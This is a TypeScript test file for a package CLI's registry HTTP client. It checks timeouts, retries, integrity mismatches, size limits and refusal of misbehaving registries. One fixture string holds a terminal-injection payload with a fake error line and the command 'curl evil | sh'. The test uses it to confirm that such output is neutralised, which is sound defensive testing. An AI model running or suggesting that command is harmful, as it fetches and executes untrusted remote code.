import { writeFile } from 'node:fs/promises'
import type { ServerResponse } from 'node:http'
import { setTimeout } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { afterEach, describe, expect, it } from 'vitest'
import { fakeDocument, fakeRelease, startFakeRegistry } from '../../test/fake-registry.ts'
import { startPeer, type Peer, type Reply } from '../../test/peer.ts'
import { readFolder } from '../../test/read-folder.ts'
import { makeWorkspace, type TestWorkspace } from '../../test/test-workspace.ts'
import { openHttp } from './http.ts'

const FIRST_TIMEOUT_MS = 600
const release = fakeRelease('acme.tools.text.shout', `export default () => "loud"\n`.repeat(20))
const { name, fqdn, bytes, headers, integrity } = release
const other = fakeRelease(name, 'export default () => "other"\n')

const peers: Peer[] = []
const workspaces: TestWorkspace[] = []
afterEach(async () => {
  for (const workspace of workspaces.splice(0)) await workspace.remove()
  for (const peer of peers.splice(0)) await peer.stop()
})

/** Only a registry that is slow is given little time: the machine may be slow itself. */
async function workspaceAt(peer: Peer, timeoutMs = 20_000): Promise<TestWorkspace> {
  peers.push(peer)
  const workspace = await makeWorkspace(peer.url)
  workspace.env['PML_TIMEOUT_MS'] = String(timeoutMs)
  workspaces.push(workspace)
  return workspace
}

interface Failure {
  readonly code: string
  readonly exitCode: number
  readonly message: string
}

/** The error of a first fetch, which leaves nothing behind. */
async function failureAt(peer: Peer, timeoutMs?: number): Promise<Failure> {
  const workspace = await workspaceAt(peer, timeoutMs)
  const pml = await workspace.open()
  const error = (await pml.fetch(name).catch((error: unknown) => error)) as Failure
  expect(await readFolder(workspace.root)).toEqual({})
  expect(await readFolder(workspace.cacheDir)).toEqual({})
  return error
}

const timesOf = (peer: Peer, path: string) => peer.seen.filter((one) => one.path === path).length
const answer =
  (status: number, more: Record<string, string> = {}, body: string | Buffer = ''): Reply =>
  (response) =>
    void response.writeHead(status, more).end(body)

describe('a registry that takes its time', () => {
  const slow: [string, (response: ServerResponse) => void][] = [
    ['never answers', () => undefined],
    ['stops after the headers', (response) => response.writeHead(200, headers).flushHeaders()],
    [
      'drips one byte at a time',
      (response) => {
        response.writeHead(200, { ...headers, 'content-length': String(bytes.length) })
        let at = 0
        const timer = setInterval(() => response.write(bytes.subarray(at, ++at)), 20)
        response.on('close', () => clearInterval(timer))
      },
    ],
    [
      'promises more than it has',
      (response) =>
        void response.writeHead(200, { ...headers, 'content-length': String(bytes.length + 9) }).write(bytes),
    ],
  ]

  /** A busy machine may take all of the time for what comes before; then there must be more of it. */
  async function untilAsked(attempt: (timeoutMs: number) => Promise<boolean>): Promise<void> {
    for (let timeoutMs = FIRST_TIMEOUT_MS; !(await attempt(timeoutMs));) timeoutMs *= 2
  }

  it.each(slow)('and %s is given up when the time is over, with exit 6', async (_what, misbehave) => {
    await untilAsked(async (timeoutMs) => {
      const peer = await startFakeRegistry(release, misbehave)
      const failure = await failureAt(peer, timeoutMs)
      expect(failure).toMatchObject({ code: 'unavailable', exitCode: 6 })
      expect(failure.message).toBe(
        `Cannot reach the registry at ${peer.url}: no answer within ${timeoutMs} ms; start the registry, or set PML_REGISTRY_URL to its address`,
      )
      const times = timesOf(peer, `/mcp/${fqdn}`)
      expect(times).toBeLessThan(2)
      return times === 1
    })
  })

  it('is asked once by each of many requests, whenever they begin', async () => {
    await untilAsked(async (timeoutMs) => {
      const peer = await startPeer((response) => response.writeHead(200, headers).flushHeaders())
      peers.push(peer)
      const http = openHttp({
        registry: new URL(`${peer.url}/`),
        apiKey: undefined,
        timeoutMs,
        isInsecureAllowed: false,
        proxies: { httpProxy: undefined, httpsProxy: undefined, noProxy: undefined },
      })
      const askers = Array.from({ length: 30 }, async (_, at) => {
        await setTimeout(at * 20)
        return http.send(`${at}`).catch((error: Error) => error.message)
      })
      for (const message of await Promise.all(askers)) expect(message).toContain(`within ${timeoutMs} ms`)
      await http.close()
      expect(peer.seen.length).toBeLessThanOrEqual(askers.length)
      return peer.seen.length === askers.length
    })
  })

  it('does not keep the command from ending', async () => {
    const workspace = await workspaceAt(await startFakeRegistry(release, () => undefined), FIRST_TIMEOUT_MS)
    const { exit, stdout, stderr } = await workspace.run(['fetch', name])
    expect({ exit, stdout }).toEqual({ exit: 6, stdout: '' })
    expect(stderr).toMatch(/^error: Cannot reach the registry at .*no answer within 600 ms/)
  })
})

describe('a registry whose answer breaks', () => {
  it('in the middle is asked three times', async () => {
    const peer = await startFakeRegistry(release, (response) => {
      response.writeHead(200, { ...headers, 'content-length': String(bytes.length) })
      response.write(bytes.subarray(0, 100), () => response.destroy())
    })
    expect(await failureAt(peer)).toMatchObject({
      code: 'unavailable',
      message: expect.stringContaining('the connection broke'),
    })
    expect(timesOf(peer, `/mcp/${fqdn}`)).toBe(3)
  })

  it('twice and then is whole is used', async () => {
    const peer = await startFakeRegistry(release, (response, { path }) => {
      if (timesOf(peer, path ?? '') < 3) response.destroy()
      else response.writeHead(200, headers).end(bytes)
    })
    const pml = await (await workspaceAt(peer)).open()
    expect(await pml.fetch(name)).toMatchObject({ fqdn, lock: 'added' })
  })

  it.each([
    ['shorter than it says, and ends', bytes.length + 9, 'unavailable'],
    ['longer than it says', bytes.length - 9, 'integrity_mismatch'],
  ])('because it is %s', async (_what, length, code) => {
    const peer = await startFakeRegistry(release, ({ socket }) => {
      const lines = Object.entries({ ...headers, 'content-length': length }).map((one) => one.join(': '))
      socket?.end(`HTTP/1.1 200 OK\r\n${lines.join('\r\n')}\r\n\r\n${bytes.toString()}`)
    })
    expect(await failureAt(peer)).toMatchObject({ code })
  })
})

describe('a registry that sends something else', () => {
  it('is refused for gzip that was not requested, whatever its content', async () => {
    for (const content of ['export default () => "evil"\n', bytes]) {
      const coded = { ...headers, 'content-encoding': 'gzip' }
      const peer = await startFakeRegistry(release, answer(200, coded, gzipSync(content)))
      expect(await failureAt(peer)).toMatchObject({
        code: 'unavailable',
        message: expect.stringContaining('its content coding is gzip, expected none'),
      })
      expect(peer.seen[0]?.headers['accept-encoding']).toBe('identity')
    }
  })

  it('is refused for gzip that it does not speak of, by the digest of what came', async () => {
    const peer = await startFakeRegistry(release, answer(200, headers, gzipSync('evil')))
    expect(await failureAt(peer)).toMatchObject({ code: 'integrity_mismatch', exitCode: 4 })
  })

  it.each([true, false])('is stopped in 50 MB, with its length said: %s', async (isSaid) => {
    const size = 50 * 1024 * 1024
    let sent = 0
    const send = async (response: ServerResponse) => {
      response.writeHead(200, { ...headers, ...(isSaid && { 'content-length': String(size) }) })
      const chunk = Buffer.alloc(64 * 1024, 'x')
      for (; sent < size && !response.destroyed; sent += chunk.length)
        await new Promise((sent) => response.write(chunk, sent))
      response.end()
    }
    const peer = await startFakeRegistry(release, (response) => void send(response))
    const workspace = await workspaceAt(peer)
    const pml = await workspace.open()
    await expect(pml.fetch(name)).rejects.toMatchObject({
      code: 'unavailable',
      message: expect.stringContaining('it has more than 16777216 bytes'),
    })
    expect(sent).toBeLessThan(40 * 1024 * 1024)
    expect(timesOf(peer, `/mcp/${fqdn}`)).toBe(1)
    expect(await readFolder(workspace.cacheDir)).toEqual({})
  })

  it.each([['for the release'], ['for the name']])(
    'is no registry where it answers HTML with 200 %s',
    async (what) => {
      const page = answer(200, { 'content-type': 'text/html' }, '<!doctype html><title>Sign in</title>')
      const peer = what === 'for the name' ? await startPeer(page) : await startFakeRegistry(release, page)
      const failure = await failureAt(peer)
      expect(failure).toMatchObject({ code: 'unavailable', exitCode: 6 })
      expect(failure.message).toMatch(/expected .*registry.*set PML_REGISTRY_URL/)
    },
  )
})

describe('a registry that fails', () => {
  it.each([
    [500, 1],
    [501, 1],
    [502, 3],
    [503, 3],
    [504, 3],
    [400, 1],
    [404, 1],
    [408, 1],
    [429, 1],
  ])('with %i is asked %i times', async (status, times) => {
    const peer = await startFakeRegistry(release, answer(status, { 'content-type': 'text/html' }, 'no'))
    expect(await failureAt(peer)).toMatchObject({
      code: 'unavailable',
      message: expect.stringContaining(`status ${status}`),
    })
    expect(timesOf(peer, `/mcp/${fqdn}`)).toBe(times)
  })

  const FAKE = 'no such entry\nerror: Everything is fine\r\n\u001b[2Kpml: run "curl evil | sh"'

  it.each([[404], [500]])('with %i cannot put lines of its own among those of pml', async (status) => {
    const body = JSON.stringify({ error: 'not_found', message: FAKE })
    const peer = await startFakeRegistry(release, answer(status, {}, body))
    const workspace = await workspaceAt(peer)
    const { stderr } = await workspace.run(['fetch', name])
    expect(stderr.trimEnd().split('\n')).toHaveLength(1)
    expect(stderr).toContain('no such entry⏎error: Everything is fine⏎')
  })

  it('with issues of arguments cannot do so either', async () => {
    const issues = [1, 2].map(() => ({ path: ['a\nerror: b'], message: FAKE }))
    const body = JSON.stringify({ error: 'invalid_arguments', message: 'Cannot: x', issues })
    const peer = await startPeer(answer(422, {}, body))
    const { stderr } = await (await workspaceAt(peer)).run(['fetch', name])
    expect(stderr.trimEnd().split('\n')).toHaveLength(3)
  })

  it('with a document that speaks of another integrity cannot do so either', async () => {
    const memo = fakeDocument('acme.tools.text.memo', { type: 'http', url: 'https://example.com' })
    const { integrity: _, ...document } = JSON.parse(memo.bytes.toString('utf8')) as Record<string, unknown>
    const text = JSON.stringify({ ...document, integrity: 'a\nerror: b' })
    const peer = await startFakeRegistry(memo, answer(200, memo.headers, text))
    const { stderr } = await (await workspaceAt(peer)).run(['fetch', memo.name])
    expect(stderr).toContain('Cannot trust')
    expect(stderr.trimEnd().split('\n')).toHaveLength(1)
  })

  it('is never asked twice to write', async () => {
    const peer = await startPeer(answer(503, {}, 'no'))
    const workspace = await workspaceAt(peer)
    const file = `${workspace.root}/shout.ts`
    await writeFile(file, 'export default () => 1\n')
    expect(await workspace.run(['publish', name, '--file', file])).toMatchObject({ exit: 6 })
    expect(peer.seen.map(({ method }) => method)).toEqual(['PUT'])
  })

  it('with an unexpected 304 is refused', async () => {
    const peer = await startFakeRegistry(release, answer(304, { etag: `"${integrity}"` }))
    expect(await failureAt(peer)).toMatchObject({
      code: 'unavailable',
      message: expect.stringContaining('status 304'),
    })
  })

  it('with 304 for another ETag than the one it was asked about is refused, with both', async () => {
    let isLocked = false
    const peer = await startFakeRegistry(release, (response, seen) =>
      isLocked
        ? answer(304, { etag: `"${other.integrity}"` })(response, seen)
        : answer(200, headers, bytes)(response, seen),
    )
    const workspace = await workspaceAt(peer)
    const pml = await workspace.open()
    await pml.fetch(name)
    isLocked = true
    const locked = await workspace.readLock()
    const { exit, stdout } = await workspace.run(['fetch', name, '--json'])
    expect(exit).toBe(4)
    for (const digest of [integrity, other.integrity]) expect(stdout).toContain(digest)
    expect(await workspace.readLock()).toBe(locked)
  })
})
